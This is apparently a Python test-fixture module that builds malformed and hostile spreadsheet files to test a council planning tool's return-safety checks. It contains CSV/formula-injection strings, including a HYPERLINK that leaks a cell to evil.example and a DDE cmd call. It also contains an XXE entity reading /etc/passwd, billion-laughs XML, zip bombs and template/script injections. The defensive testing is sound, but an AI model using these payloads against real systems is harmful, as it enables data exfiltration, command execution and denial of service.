"""Build hostile and malformed returns in a test's tmp_path (nothing large is committed).

Each builder writes one file (or link) into `folder` and returns its path. Cases that need a real
return start from a template made by `xlplan.templates.build.write_templates`, filled in by
`xlplan.demo.fill.fill_return`, and are then mutated by rewriting parts of the zip.

`hostile_quarter(root)` builds a plan with one service per content case, its templates and good
returns, and `build_all(folder, q)` fills one returns folder with every case; CASES says what each
case must come to (safety code, collect outcome) so the end-to-end tests can check all of them.
"""

from __future__ import annotations

import os
import shutil
import struct
import threading
import time
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import openpyxl

from builders import action, build_plan, measure
from xlplan.contract import layout
from xlplan.demo.fill import fill_return
from xlplan.periods import Period
from xlplan.plan import read_plan
from xlplan.safety.ole import build_compound_file
from xlplan.templates.build import write_templates

Q2 = Period.parse("2023-24-Q2")
INJECTIONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "=cmd|' /C calc'!A0",
              "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "\r=1+1",
              # markup for the Word report, its Jinja2 templates and the rich console
              "{{ 7*7 }} {% if true %}jinja{% endif %}", "<w:p><w:r><w:t>injected</w:t></w:r></w:p>",
              "[bold red]alarm[/bold red] <script>alert(1)</script> &amp;"]
UNICODE_COMMENT = ("التقدم جيد هذا الربع — on track 👍🏽 family 👨‍👩‍👧 zero\u200bwidth "
                   "bidi\u202eevil\u202c ends")
LONG_COMMENT_CHARS = 40_000


# --- zip surgery ---------------------------------------------------------------------------------


def parts_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def write_parts(path: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return path


def mutate(src: Path, dst: Path, edit: Callable[[dict[str, bytes]], None]) -> Path:
    """Copy the workbook `src` to `dst`, letting `edit` change its parts in place."""
    parts = parts_of(src)
    edit(parts)
    return write_parts(dst, parts)


def sheet_part(parts: dict[str, bytes], name: str) -> str:
    """The part name of the worksheet called `name` (via workbook.xml and its rels)."""
    import re
    wb = parts["xl/workbook.xml"].decode()
    m = re.search(r'<sheet [^>]*name="%s"[^>]*r:id="([^"]+)"' % re.escape(name), wb) or \
        re.search(r'<sheet [^>]*r:id="([^"]+)"[^>]*name="%s"' % re.escape(name), wb)
    rid = m.group(1)
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    target = re.search(r'<Relationship [^>]*Id="%s"[^>]*Target="([^"]+)"' % rid, rels) or \
        re.search(r'<Relationship [^>]*Target="([^"]+)"[^>]*Id="%s"' % rid, rels)
    t = target.group(1)
    return t.lstrip("/") if t.startswith("/") else "xl/" + t


def with_prolog(xml: bytes, doctype: bytes) -> bytes:
    """`xml` with `doctype` placed after its XML declaration (or first, when it has none)."""
    if xml.startswith(b"<?xml"):
        head, rest = xml.split(b"?>", 1)
        return head + b"?>\n" + doctype + rest
    return doctype + xml


def raw_zip(entries: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip from (name, deflated bytes, crc32, declared size, method) written by hand, so a part
    can be pre-compressed (a bomb) or declare a size it does not have (a lying bomb)."""
    out, central = bytearray(), bytearray()
    for name, body, crc, size, method in entries:
        raw = name.encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(body), size, len(raw), 0)
        out += raw + body
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, len(body),
                               size, len(raw), 0, 0, 0, 0, 0, offset) + raw
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(out), 0)
    return bytes(out + central + eocd)


def _deflated(data: bytes) -> bytes:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def zeros_stream(megabytes: int) -> tuple[bytes, int]:
    """A raw deflate stream of `megabytes` MiB of zeros, built from one repeated full-flush block
    (so a GiB costs ~1 MB and no time), and its CRC."""
    mib = bytes(2**20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(mib) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(mib) + c.flush(zlib.Z_FULL_FLUSH)
    stream = first + block * (megabytes - 1) + c.flush()
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(mib, crc)
    return stream, crc


# --- file-level cases (no real return needed) ----------------------------------------------------


def not_a_zip(folder: Path) -> Path:
    p = folder / "SW return Q2.xlsx"
    p.write_bytes(bytes(range(7, 256)) * 20)
    return p


def empty(folder: Path) -> Path:
    p = folder / "Empty return.xlsx"
    p.write_bytes(b"")
    return p


def truncated(folder: Path, good: Path) -> Path:
    data = good.read_bytes()
    p = folder / "Cut short return.xlsx"
    p.write_bytes(data[: len(data) // 2])
    return p


def csv_renamed(folder: Path) -> Path:
    p = folder / "Return as csv.xlsx"
    p.write_text("Code,Measure,To date,Status,Comments/Progress\nSW01,Reviews on time,80%,Green,On track\n")
    return p


def html_renamed(folder: Path) -> Path:
    p = folder / "Return web page.xlsx"
    p.write_text('<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta charset="utf-8">'
                 "</head><body><table><tr><td>SW01</td><td>80%</td></tr></table></body></html>")
    return p


def legacy_xls(folder: Path) -> Path:
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x0006)
    p = folder / "Old format return.xls"
    p.write_bytes(build_compound_file({"Workbook": bof, "\x05SummaryInformation": b"\0" * 64}))
    return p


def encrypted(folder: Path) -> Path:
    """Excel's container for a password-protected workbook (Agile encryption header + ciphertext)."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'
    p = folder / "Protected return.xlsx"
    p.write_bytes(build_compound_file({"EncryptionInfo": info, "EncryptedPackage": os.urandom(9000)}))
    return p


def zip_bomb(folder: Path, good: Path, megabytes: int = 1024) -> Path:
    """The good return plus a part that inflates to `megabytes` MiB from about 1 MB."""
    entries = []
    for name, data in parts_of(good).items():
        entries.append((name, _deflated(data), zlib.crc32(data), len(data), 8))
    stream, crc = zeros_stream(megabytes)
    entries.append(("xl/media/image1.png", stream, crc, megabytes * 2**20, 8))
    p = folder / "Bomb return.xlsx"
    p.write_bytes(raw_zip(entries))
    return p


def lying_bomb(folder: Path, good: Path) -> Path:
    """A part declaring 4 KB that really inflates to 64 MB: caught by size/CRC, not trusted."""
    entries = [(n, _deflated(d), zlib.crc32(d), len(d), 8) for n, d in parts_of(good).items()]
    stream, crc = zeros_stream(64)
    entries.append(("xl/media/image1.png", stream, crc, 4096, 8))
    p = folder / "Lying return.xlsx"
    p.write_bytes(raw_zip(entries))
    return p


def lock_files(folder: Path, good: Path) -> list[Path]:
    excel = folder / f"~${good.name}"
    excel.write_bytes(b"\x0bPat Officer" + b" " * 43 + b"\0" * 110)
    libre = folder / f".~lock.{good.name}#"
    libre.write_text("Pat Officer,pat,COUNCIL-PC,23.11.2026 21:03,file:///home/pat/.config/libreoffice/4;\n")
    return [excel, libre]


MARKUP_NAME = "[bold red]ALARM[blink] \x1b[31mred\x1b[0m\nline.xlsx"    # rich markup, ANSI, a newline
LATIN1_NAME = b"Retour \xe9t\xe9.xlsx"                                    # not UTF-8: an old share's name


def odd_names(folder: Path) -> list[Path]:
    """Damaged files whose names carry console markup, escape codes and bytes that are not UTF-8."""
    first = folder / MARKUP_NAME
    first.write_bytes(b"not a workbook at all")
    second = Path(os.fsdecode(os.fsencode(folder) + b"/" + LATIN1_NAME))
    second.write_bytes(b"nor is this one")
    return [first, second]


def symlink(folder: Path, target: Path, name: str = "Linked return.xlsx") -> Path:
    p = folder / name
    os.symlink(target, p)
    return p


def fifo(folder: Path) -> Path:
    p = folder / "Pipe return.xlsx"
    os.mkfifo(p)
    return p


@dataclass
class Grower:
    """A file being written: a thread appends to it every few milliseconds until stopped."""

    path: Path
    stop: threading.Event = field(default_factory=threading.Event)
    thread: threading.Thread | None = None

    def start(self, good: Path) -> "Grower":
        data = good.read_bytes()
        self.path.write_bytes(data[:1000])

        def run() -> None:
            pos = 1000
            while not self.stop.is_set():
                with open(self.path, "ab") as f:
                    f.write(data[pos:pos + 64] or b"\0" * 64)
                pos += 64
                time.sleep(0.01)

        self.thread = threading.Thread(target=run, daemon=True)
        self.thread.start()
        return self

    def finish(self) -> None:
        self.stop.set()
        if self.thread:
            self.thread.join(5)


# --- cases built from a real return --------------------------------------------------------------


def xlsm(folder: Path, good: Path) -> Path:
    def edit(parts):
        parts["xl/vbaProject.bin"] = build_compound_file({"VBA": b"Attribute VB_Name = \"Module1\"\n"})
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
            b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    return mutate(good, folder / (good.stem + " macros.xlsm"), edit)


def xxe(folder: Path, good: Path) -> Path:
    def edit(parts):
        name = "xl/sharedStrings.xml" if "xl/sharedStrings.xml" in parts else "xl/workbook.xml"
        parts[name] = with_prolog(parts[name], b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
        if name == "xl/sharedStrings.xml":
            parts[name] = parts[name].replace(b"<t>", b"<t>&xxe;", 1)
    return mutate(good, folder / "XXE return.xlsx", edit)


def billion_laughs(folder: Path, good: Path) -> Path:
    lol = b'<!DOCTYPE lolz [<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)) + b"]>"

    def edit(parts):
        parts["xl/workbook.xml"] = with_prolog(parts["xl/workbook.xml"], lol)
    return mutate(good, folder / "Laughs return.xlsx", edit)


def huge_dimension(folder: Path, good: Path) -> Path:
    """The Measures sheet claims A1:XFD1048576 (its real data stays small)."""
    import re

    def edit(parts):
        name = sheet_part(parts, layout.MEASURES_SHEET)
        xml = parts[name]
        if b"<dimension" in xml:
            parts[name] = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml)
        else:
            parts[name] = xml.replace(b"<sheetViews>", b'<dimension ref="A1:XFD1048576"/><sheetViews>', 1)
    return mutate(good, folder / (good.stem + " huge dimension.xlsx"), edit)


def far_cell(folder: Path, good: Path) -> Path:
    """A real value in XFD1048576: a dense reader would allocate 17 billion cells."""
    def edit(parts):
        name = sheet_part(parts, layout.MEASURES_SHEET)
        parts[name] = parts[name].replace(
            b"</sheetData>",
            b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>', 1)
    return mutate(good, folder / "Far cell return.xlsx", edit)


def external_links(folder: Path, good: Path) -> Path:
    """Links to another workbook on a share and a DDE link (`cmd|' /C calc'`): never followed."""
    ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ' \
         b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'

    def edit(parts):
        parts["xl/externalLinks/externalLink1.xml"] = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink ' + ns +
            b'><externalBook r:id="rId1"><sheetNames><sheetName val="Data"/></sheetNames></externalBook></externalLink>')
        parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
            b'Target="file:///\\\\fileserver\\finance\\budget.xlsx" TargetMode="External"/></Relationships>')
        parts["xl/externalLinks/externalLink2.xml"] = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink ' + ns +
            b'><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0"/></ddeItems>'
            b'</ddeLink></externalLink>')
        ct = b"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="' + ct +
            b'"/><Override PartName="/xl/externalLinks/externalLink2.xml" ContentType="' + ct + b'"/></Types>')
    return mutate(good, folder / (good.stem + " links.xlsx"), edit)


def control_characters(folder: Path, good: Path) -> Path:
    """A comment holding Excel's escaped control characters (_x0007_ bell, _x001B_ escape)."""
    def edit(parts):
        name = "xl/sharedStrings.xml"
        if b"On track" not in parts.get(name, b""):
            name = sheet_part(parts, layout.MEASURES_SHEET)       # inline strings
        assert b"On track" in parts[name]
        parts[name] = parts[name].replace(b"On track", b"On_x0007_ track_x001B_[31m red", 1)
    return mutate(good, folder / (good.stem + " control.xlsx"), edit)


def many_strings(folder: Path, good: Path, count: int = 700_000) -> Path:
    """A shared-strings part of `count` unused random strings, just within the size limits: the
    worst a reader must hold in memory for a return that is accepted."""
    import random
    rnd = random.Random(7)
    extra = b"".join(b"<si><t>%d</t></si>" % rnd.randrange(10**6) for _ in range(count))

    def edit(parts):
        name = "xl/sharedStrings.xml"
        if name in parts:
            parts[name] = parts[name].replace(b"</sst>", extra + b"</sst>", 1)
            return
        parts[name] = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
                       b'spreadsheetml/2006/main">' + extra + b"</sst>")
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                         b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
        parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
            b"</Relationships>", b'<Relationship Id="rIdStrings" Type="http://schemas.openxmlformats.org/'
                                 b'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
                                 b"</Relationships>")
    return mutate(good, folder / (good.stem + " strings.xlsx"), edit)


# --- openpyxl edits of a filled return (tampering a manager could do in Excel) -------------------


def edit_workbook(good: Path, dst: Path, edit: Callable) -> Path:
    wb = openpyxl.load_workbook(good)
    edit(wb)
    wb.save(dst)
    return dst


def header_map(ws, key: str) -> tuple[int, dict[str, int]]:
    for r in range(1, layout.HEADER_SEARCH_ROWS + 1):
        row = {str(c.value).strip(): c.column for c in ws[r] if c.value not in (None, "")}
        if key in row:
            return r, row
    raise AssertionError(f"no header with {key}")


def data_rows(ws, key: str) -> dict[str, int]:
    head, cols = header_map(ws, key)
    return {str(ws.cell(r, cols[key]).value): r for r in range(head + 1, ws.max_row + 1)
            if ws.cell(r, cols[key]).value not in (None, "")}


def set_text(ws, row: int, col: int, text: str) -> None:
    """Store `text` as a string even if it starts with '=' (as Excel does for a text-formatted cell)."""
    cell = ws.cell(row, col)
    cell.value = text
    cell.data_type = "s"


def identity_deleted(wb) -> None:
    del wb[layout.IDENTITY_SHEET]


def locked_edited(wb) -> None:
    ws = wb[layout.MEASURES_SHEET]
    rows = data_rows(ws, "Code")
    _, cols = header_map(ws, "Code")
    first = next(iter(rows.values()))
    ws.cell(first, cols["Target"]).value = "1%"
    ws.cell(first, cols["Measure"]).value = "A kinder measure"


def rows_deleted(wb) -> None:
    ws = wb[layout.MEASURES_SHEET]
    ws.delete_rows(list(data_rows(ws, "Code").values())[-1])


def rows_reordered(wb) -> None:
    ws = wb[layout.MEASURES_SHEET]
    rows = list(data_rows(ws, "Code").values())
    a, b = rows[0], rows[1]
    for col in range(1, ws.max_column + 1):
        ca, cb = ws.cell(a, col), ws.cell(b, col)
        ca.value, cb.value = cb.value, ca.value


def extras(wb) -> None:
    notes = wb.create_sheet("My working")
    notes.append(["Working figures", 1, 2, 3])
    ws = wb[layout.MEASURES_SHEET]
    head, cols = header_map(ws, "Code")
    extra = ws.max_column + 1
    ws.cell(head, extra).value = "My notes"
    for r in data_rows(ws, "Code").values():
        ws.cell(r, extra).value = "checked by team leader"


def injections(wb) -> None:
    ws = wb[layout.MEASURES_SHEET]
    _, cols = header_map(ws, "Code")
    for (code, r), text in zip(data_rows(ws, "Code").items(), INJECTIONS):
        set_text(ws, r, cols[layout.COMMENTS], text)


def unicode_comments(wb) -> None:
    ws = wb[layout.MEASURES_SHEET]
    _, cols = header_map(ws, "Code")
    rows = list(data_rows(ws, "Code").values())
    set_text(ws, rows[0], cols[layout.COMMENTS], UNICODE_COMMENT)
    set_text(ws, rows[1], cols[layout.COMMENTS], ("A very long comment. " * 2000)[:LONG_COMMENT_CHARS])


# --- a quarter with one service per content case -------------------------------------------------


SERVICES = {       # case → service whose return it is built from
    "good": "Children and Justice", "good2": "Adult and Older People",
    "xlsm": "Housing Support", "links": "Justice Services", "injection": "Fostering",
    "unicode": "Day Care", "formula": "Home Care", "identity": "Reablement", "locked": "Adoption",
    "deleted": "Residential Care", "reordered": "Carers", "extras": "Mental Health",
    "dimension": "Learning Disability", "control": "Addictions", "strings": "Criminal Justice",
}


@dataclass
class Quarter:
    root: Path
    plan: Path
    templates: dict[str, Path]          # service → template
    good: dict[str, Path]               # case → a good, filled return (outside the returns folder)


def entries_for(code_prefix: str) -> dict:
    return {f"{code_prefix}1": {"To date": "80%", "Comments/Progress": "On track"},
            f"{code_prefix}2": {"To date": "12", "Comments/Progress": "Two posts vacant"},
            f"{code_prefix}3": {"To date": "£46,000", "Comments/Progress": "Slightly behind"}}


_BUILT: list[Path] = []       # one build per test process, copied into each test's folder


def hostile_quarter(root: Path) -> Quarter:
    """Plan, Q2 templates and one good filled return per service in SERVICES (under root/good).

    Built once per process and copied (with its key and file times) into `root`.
    """
    if not _BUILT:
        import tempfile
        _BUILT.append(_build_quarter(Path(tempfile.mkdtemp(prefix="xlplan-hostile-"))).root)
    src = _BUILT[0]
    shutil.copytree(src, root, dirs_exist_ok=True, copy_function=shutil.copy2)
    templates = {s: root / "templates" / layout.template_filename(Q2, s) for s in SERVICES.values()}
    good = {case: root / "good" / f"{s} return.xlsx" for case, s in SERVICES.items()}
    return Quarter(root, root / "plan.xlsx", templates, good)


def _build_quarter(root: Path) -> Quarter:
    services = [{"Service": s, "Manager": f"{s} Manager", "Email": f"m{i}@anytown.gov.uk"}
                for i, s in enumerate(SERVICES.values())]
    measures, actions = [], []
    for i, s in enumerate(SERVICES.values()):
        p = f"M{i:02d}-"
        measures += [measure(f"{p}1", Service=s, Target="75%"),
                     measure(f"{p}2", Service=s, Unit="number", Target="10"),
                     measure(f"{p}3", Service=s, Unit="£", Target="£100,000", Profile="Cumulative")]
        if s == SERVICES["injection"]:       # one measure row per injection text
            measures += [measure(f"{p}{n}", Service=s, Unit="number", Target="10")
                         for n in range(4, len(INJECTIONS) + 1)]
        actions.append(action(f"A{i:02d}", Service=s))
    plan_path = build_plan(root / "plan.xlsx", measures=measures, actions=actions, services=services)
    plan = read_plan(plan_path)
    paths = write_templates(plan, Q2, root / "templates", plan_path=plan_path)
    templates = {s: next(p for p in paths if layout.template_filename(Q2, s) == p.name) for s in SERVICES.values()}
    good = {}
    for i, (case, s) in enumerate(SERVICES.items()):
        p = f"M{i:02d}-"
        entry = entries_for(p)
        if case == "formula":        # input cells holding formulas with no cached value
            entry[f"{p}1"]["To date"] = "=0.4+0.4"
            entry[f"{p}2"]["To date"] = "=SUM(B1:B2)"
        good[case] = fill_return(templates[s], root / "good" / f"{s} return.xlsx", entry,
                                 {f"A{i:02d}": {"Status": "Green", "Comments/Progress": "Started"}})
    return Quarter(root, plan_path, templates, good)


@dataclass(frozen=True)
class Case:
    build: Callable[[Path, Quarter], Path | list[Path]]
    safety: str | None              # the code safety.inspect gives (None: passes, no issue)
    outcome: str                    # what collect records: accepted | rejected | skipped | superseded
    code: str | None = None         # the code collect records for it (defaults to `safety`)


CASES: dict[str, Case] = {
    "good": Case(lambda f, q: Path(shutil.copy2(q.good["good"], f / "CJ return FINAL (2).xlsx")), None, "accepted"),
    "good2": Case(lambda f, q: Path(shutil.copy2(q.good["good2"], f / "Copy of AOP return.xlsx")), None, "accepted"),
    "duplicate": Case(lambda f, q: Path(shutil.copy2(q.good["good2"], f / "AOP return (1).xlsx")), None,
                      "superseded", "return.duplicate"),
    "not-a-zip": Case(lambda f, q: not_a_zip(f), "return.not-a-zip", "rejected"),
    "empty": Case(lambda f, q: empty(f), "return.empty-file", "rejected"),
    "truncated": Case(lambda f, q: truncated(f, q.good["good"]), "return.truncated", "rejected"),
    "csv": Case(lambda f, q: csv_renamed(f), "return.csv-renamed", "rejected"),
    "html": Case(lambda f, q: html_renamed(f), "return.html-renamed", "rejected"),
    "xls": Case(lambda f, q: legacy_xls(f), "return.legacy-xls", "rejected"),
    "encrypted": Case(lambda f, q: encrypted(f), "return.password-protected", "rejected"),
    "xlsm": Case(lambda f, q: xlsm(f, q.good["xlsm"]), "return.macro-enabled", "accepted"),
    "xxe": Case(lambda f, q: xxe(f, q.good["good"]), "return.xml-entities", "rejected"),
    "laughs": Case(lambda f, q: billion_laughs(f, q.good["good"]), "return.xml-entities", "rejected"),
    "bomb": Case(lambda f, q: zip_bomb(f, q.good["good"]), "return.zip-bomb", "rejected"),
    "lying-bomb": Case(lambda f, q: lying_bomb(f, q.good["good"]), "return.corrupt", "rejected"),
    "dimension": Case(lambda f, q: huge_dimension(f, q.good["dimension"]), None, "accepted"),
    "far-cell": Case(lambda f, q: far_cell(f, q.good["good"]), "return.sheet-too-large", "rejected"),
    "links": Case(lambda f, q: external_links(f, q.good["links"]), "return.external-links", "accepted"),
    "control": Case(lambda f, q: control_characters(f, q.good["control"]), None, "accepted"),
    "strings": Case(lambda f, q: many_strings(f, q.good["strings"]), None, "accepted"),
    "formula": Case(lambda f, q: Path(shutil.copy2(q.good["formula"], f / "Home Care return.xlsx")), None,
                    "accepted", "cell.formula-no-value"),
    "identity": Case(lambda f, q: edit_workbook(q.good["identity"], f / "Reablement return.xlsx", identity_deleted),
                     None, "rejected", "return.no-identity"),
    "locked": Case(lambda f, q: edit_workbook(q.good["locked"], f / "Adoption return.xlsx", locked_edited),
                   None, "accepted", "return.locked-edited"),
    "deleted": Case(lambda f, q: edit_workbook(q.good["deleted"], f / "Residential return.xlsx", rows_deleted),
                    None, "accepted", "return.row-deleted"),
    "reordered": Case(lambda f, q: edit_workbook(q.good["reordered"], f / "Carers return.xlsx", rows_reordered),
                      None, "accepted", "return.row-moved"),
    "extras": Case(lambda f, q: edit_workbook(q.good["extras"], f / "MH return.xlsx", extras), None, "accepted"),
    "injection": Case(lambda f, q: edit_workbook(q.good["injection"], f / "Fostering return.xlsx", injections),
                      None, "accepted"),
    "unicode": Case(lambda f, q: edit_workbook(q.good["unicode"], f / "Day Care return.xlsx", unicode_comments),
                    None, "accepted", "comment.too-long"),
    "lock-files": Case(lambda f, q: lock_files(f, q.good["good"]), "return.lock-file", "skipped"),
    "symlink": Case(lambda f, q: symlink(f, q.good["good"]), "return.symlink", "skipped"),
    "symlink-out": Case(lambda f, q: symlink(f, Path("/etc/passwd"), "passwd.xlsx"), "return.symlink", "skipped"),
    "fifo": Case(lambda f, q: fifo(f), "return.not-a-file", "skipped"),
    "odd-names": Case(lambda f, q: odd_names(f), "return.not-a-zip", "rejected"),
    "notes": Case(lambda f, q: _write(f / "notes.txt", b"chase Home Care"), "return.not-a-spreadsheet", "skipped"),
    "thumbs": Case(lambda f, q: _write(f / "Thumbs.db", build_compound_file({"Catalog": b"\0" * 10})),
                   "return.not-a-spreadsheet", "skipped"),
}


def _write(p: Path, data: bytes) -> Path:
    p.write_bytes(data)
    return p


def build_all(folder: Path, q: Quarter, only: list[str] | None = None) -> dict[str, list[Path]]:
    """Every case in CASES (or `only` those) written into `folder`; case → the paths made."""
    folder.mkdir(parents=True, exist_ok=True)
    made = {}
    for name, case in CASES.items():
        if only is not None and name not in only:
            continue
        out = case.build(folder, q)
        made[name] = out if isinstance(out, list) else [Path(out)]
    return made
